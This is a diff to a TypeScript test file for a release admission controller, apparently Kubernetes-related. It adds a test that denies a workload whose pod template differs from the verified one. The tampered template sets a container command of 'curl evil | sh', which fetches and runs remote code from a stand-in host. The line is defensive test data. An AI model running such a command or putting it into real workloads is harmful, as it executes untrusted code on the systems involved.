@@ -7,6 +7,7 @@ import { describe, expect, it } from "vitest";
 import type { ReleaseStatus, WorkloadKind } from "../api/index.js";
 import type { AdmissionRequest, Decision } from "./admission.js";
 import { decide } from "./decide.js";
+import { templateHash } from "../operator/rollout/workloads.js";
 import type { MemoryView } from "./memory-view.js";
 import { approvedStatus, fixtureRelease, fixtureView, NS, OPERATOR, RELEASE, releaseSpec, request, workload } from "./testdata/fixtures.js";
 
@@ -57,6 +58,20 @@ describe("a workload created again while its next release rolls out", () => {
     admitted(decide(create(kind, RELEASE), view("Approved", { first: true })));
     admitted(decide(create(kind, RELEASE), view("Approved", { strategy: false })));
     admitted(decide(create(kind, RELEASE), view("Released")));
+  });
+
+  it.each(HELD)("%s: the Released version only as that release verified its pod template, when its status records it", (kind) => {
+    const v = view("Verifying");
+    const stable = v.releases.get(NS, STABLE)!;
+    const verified = templateHash(workload(kind, { name: NAMES[kind], release: STABLE }).spec.template);
+    v.releases.put({ ...stable, status: { ...stable.status!, waves: [{ name: "default", phase: "Released", weight: 100, workloads: [{ kind, name: NAMES[kind]!, routing: "gatewayAPI", changed: true, replicas: 3, candidateTemplateHash: verified }] }] } } as never);
+    admitted(decide(create(kind, STABLE), v));
+    // Its label and sealed images, another command: not the version a rollback would restore.
+    const other = workload(kind, { name: NAMES[kind], release: STABLE });
+    other.spec.template.spec.containers[0].command = ["/bin/sh", "-c", "curl evil | sh"];
+    const m = denied(decide(request(other), v));
+    expect(m).toContain(`${kind} ${NAMES[kind]} is being created as Release ${STABLE}'s version while Release ${RELEASE} (Verifying) rolls it out, but its pod template is not the one Release ${STABLE} verified (template ${templateHash(other.spec.template)}, verified ${verified})`);
+    expect(m).toContain(`Create it with exactly Release ${STABLE}'s manifest`);
   });
 
   it("matches releases by the workload they list, not by application: a new application name does not walk around it", () => {
